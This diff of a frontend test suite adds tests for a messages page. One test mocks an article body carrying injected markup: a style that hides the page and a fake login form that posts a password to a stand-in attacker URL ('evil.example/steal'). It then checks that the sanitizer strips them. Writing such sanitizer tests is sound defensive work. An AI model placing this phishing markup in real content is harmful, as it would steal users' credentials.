@@ -23,6 +23,19 @@ describe('messages (/message)', () => {
     expect(await screen.findByText(/same rounds, countdown and bet records/)).toBeTruthy()
   })
 
+  it('news tab loads category 9', async () => {
+    // Start elsewhere: the news tab asks on mount, so the spy must be in place before /message opens.
+    const app = await renderDemoApp('/user', { login: { username: 'demo', password: 'demo123' } })
+    cleanup = app.cleanup
+    const categories: unknown[] = []
+    app.server.pretender.handledRequest = (_v: string, path: string, request: { requestBody: string }) => {
+      if (path.endsWith('getOneclassArticle')) categories.push(JSON.parse(request.requestBody).category)
+    }
+    await app.router.navigate({ to: '/message' })
+    expect((await screen.findByTestId('article-101')).textContent).toBe('Racing rooms are open')
+    expect(categories).toEqual([9])
+  })
+
   it('announcements tab loads category 14', async () => {
     const { server } = await open()
     const categories: unknown[] = []
@@ -71,6 +84,30 @@ describe('messages (/message)', () => {
     const body = (await screen.findByText('Safe')).closest('.article-body')!
     expect(body.innerHTML).not.toMatch(/onerror|script/)
     expect((window as unknown as { __xss?: number }).__xss).toBeUndefined()
+  })
+
+  it('uses the article sanitizer: no styles, forms or inputs; links open in a new tab without an opener', async () => {
+    const { server } = await open()
+    server.post('/api/Game/getOneclassArticle', () => ({
+      code: 1,
+      data: [{
+        id: 8,
+        title_yw: 'Offer',
+        content_yw:
+          '<style>body{display:none}</style><p style="position:fixed">Read</p>' +
+          '<form action="https://evil.example/steal"><input name="pwd" type="password"><button>Log in</button></form>' +
+          '<a href="https://example.com/terms">terms</a>',
+      }],
+      info: 'ok',
+    }))
+    fireEvent.click(await screen.findByText('Announcements'))
+    fireEvent.click(await screen.findByTestId('article-8'))
+    const body = (await screen.findByText('Read')).closest('.article-body')!
+    expect(body.querySelector('style, form, input, button, [style]')).toBeNull()
+    const link = within(body as HTMLElement).getByRole('link', { name: 'terms' })
+    expect(link.getAttribute('href')).toBe('https://example.com/terms')
+    expect(link.getAttribute('target')).toBe('_blank')
+    expect(link.getAttribute('rel')).toBe('noopener noreferrer')
   })
 
   it('empty state (the "empty" scenario)', async () => {
